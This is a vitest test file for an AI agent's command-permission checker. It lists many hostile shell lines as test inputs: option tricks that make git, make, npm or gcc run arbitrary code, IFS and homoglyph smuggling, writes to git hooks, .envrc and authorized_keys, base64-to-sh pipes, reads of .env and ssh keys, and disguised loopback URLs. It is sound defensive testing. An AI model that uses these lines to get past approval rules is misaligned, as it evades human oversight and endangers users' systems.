// biome-ignore-all lint/suspicious/noTemplateCurlyInString: such references are the subject.
import { describe, expect, it } from 'vitest';
import { ruleFault } from '#shared/permissions/rule';
import { noFacts } from '#shared/session/request/askedFacts';
import { effectOf, rule, ruleOf, run, shipped } from '#test/support/judging';

// Shows I27.

/** Rules that users would save. None of the lines below is what any of them means. */
const everyday = [
  'allow npm test',
  'allow npm test …',
  'allow npm run build …',
  'allow git status …',
  'allow git diff …',
  'allow git log …',
  'allow git grep …',
  'allow git fetch …',
  'allow git rebase …',
  'allow go test …',
  'allow cargo test …',
  'allow make test …',
  'allow pytest …',
  'allow rg …',
  'allow sort …',
  'allow curl …',
  'allow eslint …',
  'allow jest …',
  'allow node scripts/build.js …',
  'allow npx tsc …',
  'allow cat …',
  'allow ls …',
  'allow echo …',
  'allow grep …',
  'allow cp …',
  'allow tee …',
  'allow gcc …',
  'allow gcc-12 …',
  'allow ./gradlew test …',
  'allow mvn test …',
  'allow tsc …',
  'allow mypy …',
].map(ruleOf);

const dollar = '$';

describe('a line that only looks like what a rule allows is asked for', () => {
  it.each([
    // Options that run something, or write somewhere.
    'git diff --output=.git/hooks/pre-commit',
    'git diff --outp .git/hooks/pre-commit',
    'git log --output notes.txt',
    'git diff --ext-diff',
    'git log -p --textconv',
    'git grep -Osh pattern',
    'git grep --open-files-in-pager=sh x',
    'git grep --open=sh x',
    'git fetch --upload-pack=/tmp/x origin',
    'git fetch --upload-pa /tmp/x origin',
    'git rebase -x "touch x" main',
    'git rebase -ix "touch x" main',
    'git rebase --exec="touch x" main',
    'git -c alias.status=!sh status',
    'git -c core.pager=sh log',
    'git -c core.fsmonitor=/tmp/x status',
    'git --exec-path=/tmp status',
    'git --git-dir=/tmp/evil.git status',
    'git -C /tmp/evil status',
    'git --work-tree=/ diff',
    'git config core.hooksPath /tmp',
    'go test -exec /tmp/x ./...',
    'go test --exec=/tmp/x ./...',
    'go test -toolexec=/tmp/x ./...',
    'go test -vettool /tmp/x ./...',
    'cargo test --config target.runner=sh',
    'cargo test --manifest-path /tmp/Cargo.toml',
    'make test SHELL=/tmp/x',
    'make test -- SHELL=/tmp/x',
    'make test -f /tmp/Makefile',
    'make test -f/tmp/Makefile',
    'make test -kf /tmp/Makefile',
    'make test --eval=x:;id',
    'make test -C /tmp',
    'npm test --script-shell=/tmp/x',
    'npm test --script-sh /tmp/x',
    'npm test --prefix /tmp/evil',
    'npm test -C /tmp/evil',
    'npm test --node-options=--require=/tmp/x',
    'npm run build --userconfig /tmp/npmrc',
    'pytest -p evil',
    'pytest --rootdir=/tmp',
    'rg --pre /tmp/x pattern',
    'rg --pre=/tmp/x pattern',
    'sort --compress-program=/tmp/x big.txt',
    'sort -o .bashrc big.txt',
    'curl https://example.com -o .git/hooks/pre-commit',
    'curl https://example.com -so.envrc',
    'curl -K /tmp/curlrc https://example.com',
    'eslint --rulesdir /tmp/rules src',
    'eslint --plugin /tmp/x src',
    'jest --runner=/tmp/x',
    'jest --globalSetup /tmp/x',
    'jest --global-setup /tmp/x',
    'jest --outputFile=.envrc',
    'pytest @options',
    'gcc @options',
    'gcc @opt*',
    'gcc -o/tmp/x x.c',
    'gcc -B/tmp x.c',
    'gcc-12 -wrapper /tmp/x x.c',
    './gradlew test -I /tmp/x',
    'mvn test -Dexec.executable=/tmp/x',
    'mvn test -s /tmp/settings.xml',
    'tsc -outdir /tmp',
    'tsc --outDir /tmp',
    'mypy --python-executable /tmp/x',
    'make test -E x:;id',
    'curl https://example.com --etag-save .envrc',
    'curl https://example.com -w %output{.envrc}x',
    'go test -outputdir /tmp -cpuprofile x',
    // Names of files, which the agent chooses, become options.
    'sort -*',
    'sort --c*',
    'sort -?*',
    'rg x --p*',
    'git diff --o*',
    'git log -?',
    'npm test --s*',
    'make test S*',
    'make test -- ?HELL*',
    'eslint src --r*',
    // Another command by the shell's means.
    `npm${dollar}IFS''test`,
    `npm${dollar}{IFS}test`,
    `cat${dollar}IFS/etc/passwd`,
    'cat <<< "$(id)"',
    'cat <<-EOF\n\t$(id)\n\tEOF',
    "cat <<'EOF' | sh\nid\nEOF",
    'cat <(id)',
    'echo >(sh)',
    'echo id | tee >(sh)',
    'echo id |sh',
    'echo id | xargs -I{} sh -c {}',
    'ls | xargs -n1 npm test',
    'ls && find . -exec npm test {} +',
    'npm exec -- npm test',
    'npm exec --call "npm test"',
    'npx -c "npm test"',
    'npx --package evil tsc',
    'node -r /tmp/x scripts/build.js',
    'node --import=/tmp/x scripts/build.js',
    'node scripts/build.js/../../../tmp/x',
    'node ./scripts/build.js',
    'BASH_ENV=/tmp/x npm test',
    'GIT_EXTERNAL_DIFF=/tmp/x git diff',
    'NODE_OPTIONS=--require=/tmp/x npm test',
    'npm test GIT_SSH=x && PAGER=sh git log',
    'env -S "npm test"',
    'env -i PATH=/tmp npm test',
    "alias ls='sh -c id'; ls",
    'unalias -a; ls',
    'builtin eval id; ls',
    'exec -a npm sh test',
    'command -p ls',
    'sh -c "sh -c \'npm test\'"',
    'bash -c npm\\ test',
    'eval "$(echo npm test)"',
    'np{m,} test',
    '{npm,test}; ls',
    '{ls,-la}',
    'ls {a,$(id)}',
    'npm te?t',
    '/???/npm test',
    'npm \\\n test',
    'n\\\npm test',
    'npm test \\\n; id',
    'npm test\\',
    '-- npm test',
    'npm -- test',
    'ls -- $(id)',
    'ls;id',
    'ls\u2028id',
    'ls\u0085id',
    'ls\vid',
    'ls\fid',
    'ls\0id',
    'npm\u2003test',
    'ոpm test',
    'nρm test',
    'npm tеst',
    'ⅼs',
    'ls ‐la; id',
    'ls "a" "$(id)"',
    'ls "a`id`"',
    'echo "a\\$(id)"',
    'echo ${x@P}',
    'echo $[$(id)]',
    'echo ${a[$(id)]}',
    'echo ~+/$(id)',
    'echo !$',
    '! ls',
    'time ls',
    'coproc ls',
    'ls & id',
    'ls |& id',
    'ls ||| id',
    'ls ;; id',
    '(ls)',
    '((ls))',
    '[[ $(id) ]] && ls',
    'select x in a; do ls; done',
    'until ls; do id; done',
    'ls() { id; }; ls',
    'function ls { id; }; ls',
    'trap id EXIT && ls',
    'hash -p /tmp/x ls; ls',
    'enable -f /tmp/x.so ls; ls',
    'set -o history; ls',
    'printf -v PATH /tmp; ls',
    'read PATH; ls',
    'cd /tmp && ls',
    'cd -P .. && ls',
    'pushd /tmp; ls',
    'cd a && cd ../.. && ls',
    // Files that arm themselves.
    'echo x > .git/hooks/pre-commit',
    'echo x >> .envrc',
    'echo x >.vscode/tasks.json',
    'echo x &> .husky/pre-commit',
    'echo x | tee .git/hooks/pre-commit',
    'tee -a .envrc',
    'cp x .git/hooks/pre-commit',
    'cp -t .git/hooks x',
    'cp --target-directory=.husky x',
    'cp x ./a/../.git/hooks/pre-commit',
    'cp x .GIT/hooks/pre-commit',
    'cp x "/work/.git/hooks/pre-commit"',
    'cp x /project/.git/hooks/pre-commit',
    'cp x .git/hook*/pre-commit',
  ])('%j', (line) => {
    expect(effectOf(run(line), everyday)).toBe('ask');
    expect(effectOf(run(line), everyday, { isolation: 'isolated' }, shipped)).toBe('ask');
  });
});

describe('what those rules mean is still allowed', () => {
  it.each([
    'npm test -- --watch --config=x',
    'npm run build --silent',
    'git status -sb',
    'git diff --stat HEAD~1',
    'git diff -- --output',
    'git log --oneline -n 5',
    'git log --grep=fix*',
    'sort ./*',
    'ls -*',
    'git diff -- src*',
    'git grep -n "TODO"',
    'git fetch --prune origin',
    'go test -run TestX -count=1 ./...',
    'cargo test --release -- --nocapture',
    'make test -j4',
    'pytest -q -k name',
    'rg -n --glob src pattern',
    'sort -u names.txt',
    'curl -s https://example.com',
    'eslint --fix src',
    'npx tsc --noEmit',
    'tsc --noEmit -p tsconfig.build.json',
    'jest --coverage --watch --ci',
    'gcc -O2 -Wall -c x.c',
    './gradlew test --info',
    'mvn test -q -B -T4',
    'mypy --strict src',
    'node scripts/build.js --output=dist',
    'cp a b',
    'cat .envrc',
    'ls -la .git/hooks',
    'grep -r x .vscode',
    'git log --oneline | grep fix | sort',
  ])('%j', (line) => {
    // A `~` of git's is one of the shell's as well.
    expect(effectOf(run(line), everyday)).toBe(line.includes('~') ? 'ask' : 'allow');
  });
});

describe('in a sealed session, a file that arms itself is asked for however it is written to', () => {
  it.each([
    'echo x > .git/hooks/pre-commit',
    'echo x >| .envrc',
    'echo x 2>.envrc',
    'cat <<EOF > .vscode/tasks.json\n{}\nEOF',
    'cat <<EOF >.husky/pre-commit\nid\nEOF',
    'printf x | tee -a .envrc',
    '(echo x; echo y) > .envrc',
    '{ echo x; } >> .envrc',
    'if true; then echo x > .envrc; fi',
    'sh -c "echo x > .envrc"',
    'bash -c \'sh -c "echo x > .envrc"\'',
    'eval "echo x > .envrc"',
    'sudo tee .envrc',
    'env A=1 cp x .envrc',
    'find . -name x -exec cp {} .git/hooks/pre-commit +',
    'echo x | xargs -I{} cp {} .envrc',
    'cp x .git/hooks/',
    'cp -t.git/hooks x',
    'mv x ".git"/hooks/pre-commit',
    "ln -s /tmp/x .git/hook's'/pre-commit",
    'dd if=x of=.git/hooks/pre-commit',
    'install -m 755 x .git/hooks/pre-commit',
    'rsync x .husky/',
    'curl https://example.com -o .envrc',
    'curl https://example.com --output=.envrc',
    'curl -so.envrc https://example.com',
    'wget -O .envrc https://example.com',
    'tar xf x.tar -C .git/hooks',
    'unzip x.zip -d .vscode',
    'sort -o .envrc x',
    'gcc -o .git/hooks/pre-commit x.c',
    'go build -o=.git/hooks/pre-commit',
    'git diff --output=.envrc',
    'git -C .git/hooks init',
    'git config core.hooksPath hooks',
    'git config --local alias.st "!sh"',
    'git config --add core.fsmonitor /tmp/x',
    'git config core.hooksPath list',
    'git config core.hooksPath get',
    'git config --comment list core.hooksPath hooks',
    'git config core.pager --get',
    'git config set core.hooksPath --list',
    'cd .git/hooks && echo x > pre-commit',
    'pushd .husky; cp ../x pre-commit',
    'cp x .git/hook?/pre-commit; echo x > .husk*/pre-commit',
    'cp x {.envrc,b}',
    'cp x .{envrc,foo}',
    'sed -i s/a/b/ .envrc',
    'perl -pi -e s/a/b/ .envrc',
    'chmod +x .git/hooks/pre-commit',
    'touch .ENVRC',
    'cp x ~/.bashrc',
    'cp x /project/.git/hooks/pre-commit',
    'echo x > "/project/.envrc"',
  ])('%j', (line) => {
    expect(effectOf(run(line), [], { isolation: 'sealed' }, shipped)).toBe('ask');
    // A rule that allows all commands does not reach them either.
    const all = [{ ...ruleOf('allow x'), match: { type: 'kind', kind: 'execute' } as const }];
    expect(effectOf(run(line), all, { isolation: 'isolated' }, shipped)).toBe('ask');
  });

  it.each([
    ['/work/.github/workflows', 'tee ci.yml'],
    ['/work/.github', 'cp x workflows/ci.yml'],
    ['.github', 'echo x > workflows/ci.yml'],
    ['/work/a', 'echo x > ../.github/workflows/ci.yml'],
    ['/home/user/.ssh', 'tee authorized_keys'],
    ['/work', 'cd .github && echo x > workflows/ci.yml'],
    ['/work', 'cd ./.github; cd workflows; tee ci.yml'],
    ['/work', 'pushd .github && cp x workflows/ci.yml'],
    ['/work/.github', 'cd workflows && tee ci.yml'],
  ])('in %j: %j', (cwd, line) => {
    expect(effectOf(run(line, { cwd }), [], { isolation: 'sealed' }, shipped)).toBe('ask');
  });

  it('asks for a line that goes to more folders, and writes more files there, than are looked at', () => {
    const effect = (folders: number, files: number) => {
      const going = Array.from({ length: folders }, (_, index) => `cd ${index}; `).join('');
      const names = Array.from({ length: files }, (_, index) => `a${index}`).join(' ');
      const asked = run(`${going}tee ${names}`);
      return effectOf(asked, [], { isolation: 'sealed' }, shipped);
    };
    expect([effect(10, 1), effect(11, 1)]).toEqual(['allow', 'ask']);
    expect([effect(0, 500), effect(2, 200), effect(2, 300)]).toEqual(['allow', 'allow', 'ask']);
  });

  it.each([
    ['/work/src', 'tee workflows/ci.yml'],
    ['/work', 'cd src && echo x > workflows/ci.yml'],
    ['/work/src', 'cd .. && echo x > a.txt'],
  ])('in %j %j needs no question', (cwd, line) => {
    expect(effectOf(run(line, { cwd }), [], { isolation: 'sealed' }, shipped)).toBe('allow');
  });

  it.each([
    'cat .envrc && ls .git/hooks',
    'grep -rn x .github',
    'git config --get user.name',
    'git config --list',
    'git config --global --get user.name',
    'git config list --show-origin',
    'git config --show-origin --list',
    'git config get user.name',
    'node --env-file=.env scripts/a.js',
    'npm install && npm test > out.txt 2>&1',
    'tar xf x.tar -C vendor',
    'cd packages/a && npm test | tee log.txt',
    'for f in *.ts; do wc -l "$f" > "$f.count"; done',
    'gcc -o build/x x.c',
  ])('%j needs no question', (line) => {
    expect(effectOf(run(line), [], { isolation: 'sealed' }, shipped)).toBe('allow');
  });
});

describe('rules that would allow anything cannot be kept', () => {
  it.each([
    'allow npm exec …',
    'allow npm x …',
    'allow npm exec -- …',
    'allow npm config …',
    'allow pnpm dlx …',
    'allow yarn exec …',
    'allow bun x …',
    'allow bun run …',
    'allow deno run …',
    'allow uv run …',
    'allow poetry run …',
    'allow bundle exec …',
    'allow go run …',
    'allow nix run …',
    'allow mise exec …',
    'allow git config …',
    'allow git submodule …',
    'allow git bisect …',
    'allow git difftool …',
    'allow tar …',
    'allow rsync …',
    'allow socat …',
    'allow split …',
    'allow less …',
    'allow man …',
    'allow psql …',
    'allow gh …',
    'allow npm run --script-shell x …',
    'allow make -f x …',
    'allow find …',
    'allow xargs …',
    'allow hyperfine …',
    'allow gxargs …',
    'allow nodemon …',
    'allow tsx …',
    'allow pdm run …',
    'allow pyenv exec …',
    'allow bazel run …',
    'allow redis-cli …',
  ])('%s', (text) => {
    expect(ruleFault(ruleOf(text))).not.toBeNull();
  });

  it.each([
    'allow npm run build …',
    'allow npm exec eslint …',
    'allow bundle exec rspec …',
    'allow uv run pytest …',
    'allow git log …',
    'allow make test …',
    'allow tar xf a.tar',
    'deny tar …',
  ])('%s can', (text) => {
    expect(ruleFault(ruleOf(text))).toBeNull();
  });
});

describe('a command that is denied is found in more places', () => {
  it.each([
    'tar xf a.tar --to-command="rm x"',
    'tar cf a.tar --checkpoint-action=exec="rm x" .',
    'split --filter="rm x" big',
    'rsync -e "rm x" a b',
    'zip a.zip b -T -TT "rm x"',
    'sh <<< "rm x"',
    'echo cm0geA== | base64 -d | sh',
    'setsid -f rm x',
    'busybox rm x',
    'ssh localhost rm x',
    'docker run -v /:/h alpine rm /h/x',
    "git -c alias.x='!rm -rf y' x",
    'git -calias.x=!rm x y',
    'git -c alias.x="!rm y" x',
    'git --config-env=alias.x=Y x',
    'git --config-env alias.x=Y x',
    'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0="!rm y" git x',
    'git bisect run rm x',
    'git submodule foreach rm x',
    'git submodule foreach "rm x"',
    'git rebase -x "rm x" main',
    'git rebase --exec="rm x" main',
    'git difftool -x "rm x"',
    'npm exec rm x',
    'npm exec -- rm x',
    'poetry run rm x',
    'bundle exec rm x',
    'uv run rm x',
    'nix-shell --run "rm x"',
    'vim -c ":!rm x"',
  ])('%j', (line) => {
    expect(effectOf(run(line), [ruleOf('deny rm')])).toBe('deny');
  });
});

describe('what git is told to call something else is still found', () => {
  it.each([
    'git -c alias.x=push x',
    "git -c alias.x='push --force' x",
    'git -calias.x=push x',
    'git -c user.name=a -c alias.x=push x',
  ])('%j', (line) => {
    expect(effectOf(run(line), [ruleOf('deny git push')])).toBe('deny');
  });
});

describe('a request that says more than one thing', () => {
  it.each([
    { command: 'npm test', script: 'rm x' },
    { command: 'npm test', cmd: 'rm x' },
    { command: 'npm test', Command: 'rm x' },
    { command: 'npm test', command_line: 'rm x' },
    { command: 'npm test', commands: ['rm x'] },
    { command: 'npm test', args: '; rm x' },
    { command: 'npm test', args: { 0: 'x' } },
    { command: ['npm', 'test'], args: ['x'] },
  ])('is denied if any of it may be, and never allowed: %j', (input) => {
    const asked = { ...run('x'), input: JSON.stringify(input) };
    expect(effectOf(asked, [ruleOf('allow npm test')])).toBe('ask');
    expect(effectOf(asked, [ruleOf('allow npm test'), ruleOf('deny rm')])).toBe('deny');
  });

  it.each([
    { command: 'npm test', environment: { NODE_OPTIONS: '-r x' } },
    { command: 'npm test', envVars: { NODE_OPTIONS: '-r x' } },
    { command: 'npm test', stdin: 'x' },
  ])('about what the command runs with is asked: %j', (input) => {
    const asked = { ...run('x'), input: JSON.stringify(input) };
    expect(effectOf(asked, [ruleOf('allow npm test')])).toBe('ask');
  });

  it.each([
    { command: 'npm test', timeout: 5, description: 'Runs the tests', run_in_background: false },
    { command: 'npm test', cmd: 'npm test' },
    { command: 'npm test', args: [] },
    { command: 'npm', args: ['test'] },
    { command: 'npm test', args: null, env: {} },
  ])('the same twice is clear: %j', (input) => {
    const asked = { ...run('x'), input: JSON.stringify(input) };
    expect(effectOf(asked, [ruleOf('allow npm test')])).toBe('allow');
  });
});

describe('a request that names more than one file or address', () => {
  const allowed = [
    rule('allow', { type: 'kind', kind: 'read' }),
    rule('allow', { type: 'host', host: 'good.com' }),
    rule('allow', { type: 'tool', name: 'look' }),
  ];
  const secret = rule('deny', { type: 'path', pattern: '.env', access: 'read' });

  it.each(['file_path', 'filePath', 'abs_path', 'filename'])('is denied for %s, too', (key) => {
    const input = JSON.stringify({ path: 'a.txt', [key]: '.env' });
    const asked = { ...noFacts, toolKind: 'read', input } as const;
    expect(effectOf(asked, allowed)).toBe('allow');
    expect(effectOf(asked, [...allowed, secret])).toBe('deny');
  });

  it('is not allowed by a rule for one of its addresses', () => {
    const input = JSON.stringify({ url: 'https://good.com/', uri: 'https://evil.com/' });
    const asked = { ...noFacts, toolKind: 'fetch', input } as const;
    const evil = rule('deny', { type: 'host', host: 'evil.com' });
    expect(effectOf(asked, allowed)).toBe('ask');
    expect(effectOf(asked, [...allowed, evil])).toBe('deny');
  });

  it.each(['other', 'think', 'execute', 'fetch', 'switch_mode'] as const)(
    'is denied whatever the agent calls its tool: %s',
    (toolKind) => {
      const named = { ...noFacts, name: 'look', toolKind };
      for (const asked of [
        { ...named, locations: [{ path: '/work/.env' }] },
        { ...named, input: JSON.stringify({ path: '.env' }) },
      ]) {
        expect(effectOf(asked, [...allowed, secret])).toBe('deny');
      }
      expect(effectOf({ ...named, locations: [{ path: 'b' }] }, [secret])).toBe('ask');
    },
  );

  it('is not denied for reading where it only writes', () => {
    const asked = { ...noFacts, toolKind: 'edit', locations: [{ path: '.env' }] } as const;
    expect(effectOf(asked, [secret])).toBe('ask');
  });
});

describe('a host that is denied', () => {
  const denied = ['127.0.0.1', '[::1]', 'evil.com'].map((host) =>
    rule('deny', { type: 'host', host }),
  );
  it.each([
    'http://127.1/',
    'http://0x7f000001',
    'http://0x7f.1:80/x',
    'http://2130706433/',
    'http://017700000001/',
    'http://[::ffff:127.0.0.1]/',
    'http://[::ffff:7f00:1]/',
    'http://[0:0:0:0:0:0:0:1]/',
    'https://evil.com../',
  ])('is found however it is written: %s', (url) => {
    const asked = { ...noFacts, toolKind: 'fetch', input: JSON.stringify({ url }) } as const;
    expect(effectOf(asked, denied)).toBe('deny');
    expect(effectOf(run(`curl ${url}`), denied, { isolation: 'sealed' }, shipped)).toBe('deny');
  });

  it('is not taken for another', () => {
    const url = 'http://128.0.0.1/';
    const asked = { ...noFacts, toolKind: 'fetch', input: JSON.stringify({ url }) } as const;
    expect(effectOf(asked, denied)).toBe('ask');
  });
});

describe('a file that is denied is found however a shell comes to its name', () => {
  const allowed = [ruleOf('allow cat …'), ruleOf('allow cp …')];
  const denied = ['.env', 'secrets/', 'keys/*.pem', '/home/user/.ssh/'].map((pattern) =>
    rule('deny', { type: 'path', pattern, access: 'read' }),
  );
  it.each([
    'cat .en*',
    'cat .en?',
    'cat a/.[a-f]nv',
    'cat {.env,a}',
    'cat ./secret?/a',
    'cat s*/a',
    'cat keys/a*',
    'cat k*/*',
    'cat /home/*/.ssh/id',
    'cp --from=.en* b',
  ])('%j is denied', (line) => {
    expect(effectOf(run(line), [...allowed, ...denied])).toBe('deny');
    expect(effectOf(run(line), denied, { isolation: 'sealed' }, shipped)).toBe('deny');
  });

  it.each(['cat $F', 'cat "$(head -1 list)"', 'f=.env; cat $f'])('%j is asked for', (line) => {
    expect(effectOf(run(line), denied, { isolation: 'sealed' }, shipped)).toBe('ask');
    const host = [rule('deny', { type: 'host', host: 'example.com' })];
    expect(effectOf(run(line), host, { isolation: 'sealed' }, shipped)).toBe('ask');
  });

  it.each(['cat ./*', 'cat src/*.ts', 'cat a/e*', 'cat docs/s*'])('%j is allowed', (line) => {
    expect(effectOf(run(line), [...allowed, ...denied.slice(0, 1)])).toBe('allow');
  });
});
